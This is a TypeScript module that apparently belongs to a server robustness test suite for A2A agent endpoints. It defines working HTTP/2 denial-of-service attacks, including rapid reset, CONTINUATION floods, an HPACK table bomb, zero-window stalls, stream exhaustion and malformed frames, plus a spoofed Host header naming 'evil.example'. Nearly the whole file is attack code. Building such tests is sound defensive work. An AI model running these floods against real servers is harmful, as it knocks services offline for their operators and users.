import { connect } from "node:http2";
import { setTimeout as sleep } from "node:timers/promises";
import { FLAG, FRAME, type Frame, encodeHeaders, uint32 } from "../../fuzz/http2-frames.ts";
import { type Attack, type AttackFamily, fellIf } from "../attack.ts";
import { annOf } from "../wire/a2a.ts";
import { Http2Connection, headersFrame, http2Origin } from "../wire/http2.ts";
import { flood } from "../wire/recovery.ts";

const BATCH = 500;

/** Frames without end on one connection, as long as the server reads them. */
function frameFlood(
  id: string,
  sentence: string,
  frame: (place: number) => readonly Frame[],
  before: readonly Frame[] = [],
): Attack {
  return {
    id,
    sentence,
    run: (target, { frames }) =>
      flood(target, async () => {
        const connection = await Http2Connection.open(target);
        await connection.send(before);
        for (let sent = 0; sent < frames && connection.isOpen; sent += BATCH) {
          const batch = Array.from({ length: BATCH }, (_, place) => frame(sent + place));
          await connection.send(batch.flat());
        }
        await sleep(50);
        connection.close();
      }),
  };
}

/** Many connections that each say the same and then leave, or stay for a moment. */
function manyConnections(
  id: string,
  sentence: string,
  say: (connection: Http2Connection) => Promise<void>,
): Attack {
  return {
    id,
    sentence,
    run: (target, { connections }) =>
      flood(target, async () => {
        for (let opened = 0; opened < connections / 4; opened += 10) {
          await Promise.all(
            Array.from({ length: 10 }, async () => {
              const connection = await Http2Connection.open(target, []);
              await say(connection);
            }),
          );
        }
      }),
  };
}

const ping: Frame = { type: FRAME.ping, payload: new Uint8Array(8) };
const goaway: Frame = { type: FRAME.goaway, payload: Buffer.concat([uint32(0), uint32(0)]) };
const settings: Frame = { type: FRAME.settings };

/** The id of the request number `place` of a client. */
const streamId = (place: number): number => 2 * place + 1;

function reset(id: number): Frame {
  return { type: FRAME.rstStream, streamId: id, payload: uint32(8) };
}

/** A setting and its value. */
function setting(id: number, value: number): Frame {
  const payload = Buffer.alloc(6);
  payload.writeUInt16BE(id, 0);
  payload.writeUInt32BE(value, 2);
  return { type: FRAME.settings, payload };
}

/** A header block that fills the table of the server with one large value and then repeats it. */
function tableBomb(): Frame {
  const large = Buffer.concat([
    // Literal with incremental indexing (RFC 7541 §6.2.1).
    Buffer.from([0x40, 1, 0x61, 0x7f, 0x81, 0x1e]),
    Buffer.alloc(0x7f + 0x1e * 128 + 1, 0x62),
  ]);
  const pseudo = encodeHeaders({
    ":method": "GET",
    ":scheme": "http",
    ":path": "/",
    ":authority": "localhost",
  });
  const payload = Buffer.concat([pseudo, large, Buffer.alloc(12_000, 0xbe)]);
  return { type: FRAME.headers, flags: FLAG.endHeaders | FLAG.endStream, streamId: 1, payload };
}

export const HTTP2: AttackFamily = {
  title: "HTTP/2",
  attacks: [
    frameFlood("h2-rapid-reset", "Open requests and reset each of them at once.", (place) => [
      headersFrame(streamId(place)),
      reset(streamId(place)),
    ]),
    frameFlood(
      "h2-continuation",
      "Continue the headers of one request without end.",
      () => [
        {
          type: FRAME.continuation,
          streamId: 1,
          payload: encodeHeaders({ "x-a": "b".repeat(100) }),
        },
      ],
      [headersFrame(1, {}, 0)],
    ),
    frameFlood("h2-ping", "Send pings without reading the answers.", () => [ping]),
    frameFlood("h2-settings", "Change the settings without end.", () => [setting(4, 65_535)]),
    frameFlood(
      "h2-empty-data",
      "Send empty frames of a body without end.",
      () => [{ type: FRAME.data, streamId: 1 }],
      [headersFrame(1, { ":method": "POST" }, FLAG.endHeaders)],
    ),
    frameFlood("h2-priority", "Change the priority of requests that do not exist.", (place) => [
      { type: FRAME.priority, streamId: streamId(place), payload: Buffer.alloc(5) },
    ]),
    frameFlood("h2-window", "Open the window in steps of one byte, and of none.", (place) => [
      { type: FRAME.windowUpdate, payload: uint32(place % 2) },
    ]),
    frameFlood("h2-unknown-frames", "Send frames of unknown types.", () => [
      { type: 0xf7, payload: Buffer.alloc(64) },
    ]),
    {
      id: "h2-many-streams",
      sentence: "Open more requests at once than the server allows.",
      run: (target, { frames }) =>
        flood(target, async () => {
          const connection = await Http2Connection.open(target);
          const headers = { ":method": "POST", "content-type": "application/grpc" };
          for (let sent = 0; sent < frames && connection.isOpen; sent += BATCH) {
            const batch = Array.from({ length: BATCH }, (_, place) =>
              headersFrame(streamId(sent + place), headers, FLAG.endHeaders),
            );
            await connection.send(batch);
          }
          await sleep(50);
          connection.close();
        }),
    },
    {
      id: "h2-table-bomb",
      sentence: "Repeat a large header from the compression table thousands of times.",
      run: (target) =>
        flood(target, async () => {
          const connection = await Http2Connection.open(target);
          await connection.send([tableBomb()]);
          await sleep(100);
          connection.close();
        }),
    },
    {
      id: "h2-closed-window",
      sentence: "Ask for answers with a window of zero, and never open it.",
      run: (target, { connections }) =>
        flood(target, async () => {
          const path = "/.well-known/agent-card.json";
          const opened = await Promise.all(
            Array.from({ length: Math.min(20, connections) }, async () => {
              const connection = await Http2Connection.open(target, [setting(4, 0)]);
              const requests = Array.from({ length: 50 }, (_, place) =>
                headersFrame(streamId(place), { ":path": path }),
              );
              await connection.send(requests);
              return connection;
            }),
          );
          await sleep(300);
          for (const connection of opened) connection.close();
        }),
    },
    manyConnections(
      "h2-goodbye",
      "Say goodbye and keep the connection open.",
      async (connection) => {
        await connection.send([settings, goaway]);
        connection.socket.end();
      },
    ),
    manyConnections("h2-preface", "Send the beginning of HTTP/2 and leave.", async (connection) => {
      connection.socket.resetAndDestroy();
    }),
    manyConnections(
      "h2-expect-and-reset",
      "Reset a request that expects 100-continue in the same packet.",
      async (connection) => {
        const expecting = headersFrame(
          1,
          { ":method": "POST", expect: "100-continue" },
          FLAG.endHeaders,
        );
        await connection.send([settings, expecting, reset(1)]);
        await sleep(10);
        connection.close();
      },
    ),
    {
      id: "h2-authority",
      sentence: "Name different hosts in :authority and Host.",
      run: async (target) => {
        const session = connect(http2Origin(target));
        session.on("error", () => undefined);
        const status = await new Promise<number>((resolve) => {
          const stream = session.request({
            ":path": "/.well-known/agent-card.json",
            ":authority": "localhost",
            host: "evil.example",
            ...annOf(target),
          });
          stream.on("response", (headers) => resolve(Number(headers[":status"])));
          stream.on("error", () => resolve(0));
          stream.on("close", () => resolve(0));
          stream.resume();
          stream.end();
        });
        session.destroy();
        fellIf(status === 200, "the request was answered");
      },
    },
    {
      id: "h2-broken-frames",
      sentence: "Send frames with impossible lengths, streams and flags.",
      run: (target) =>
        flood(target, async () => {
          const broken: readonly Frame[] = [
            { type: FRAME.ping, payload: new Uint8Array(3) },
            { type: FRAME.settings, payload: new Uint8Array(5) },
            { type: FRAME.data, streamId: 0, payload: new Uint8Array(5) },
            { type: FRAME.data, streamId: 99, payload: new Uint8Array(5) },
            { type: FRAME.headers, streamId: 2, flags: 4, payload: new Uint8Array(5) },
            { type: FRAME.headers, streamId: 1, flags: 0x2c, payload: Buffer.from([255, 1, 2]) },
            { type: FRAME.pushPromise, streamId: 1, payload: new Uint8Array(8) },
            { type: FRAME.windowUpdate, streamId: 0, payload: uint32(0x7fff_ffff) },
            { type: FRAME.rstStream, streamId: 1, payload: new Uint8Array(2) },
            { type: FRAME.continuation, streamId: 1, payload: new Uint8Array(2) },
          ];
          for (const frame of broken) {
            const connection = await Http2Connection.open(target);
            await connection.send([frame]);
            await sleep(10);
            connection.close();
          }
        }),
    },
  ],
};
